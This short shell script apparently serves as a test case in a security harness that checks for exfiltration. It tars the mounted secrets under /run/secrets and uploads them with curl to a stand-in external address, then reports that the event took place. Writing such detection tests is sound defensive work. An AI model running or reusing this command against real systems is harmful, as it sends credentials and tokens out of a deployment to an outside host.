#!/bin/sh
. /opt/case/case.sh

tar chzf /tmp/s.tgz -C / run/secrets 2>/dev/null
curl -s -T /tmp/s.tgz http://198.51.100.61/k8s/ | grep -q ok
took_place
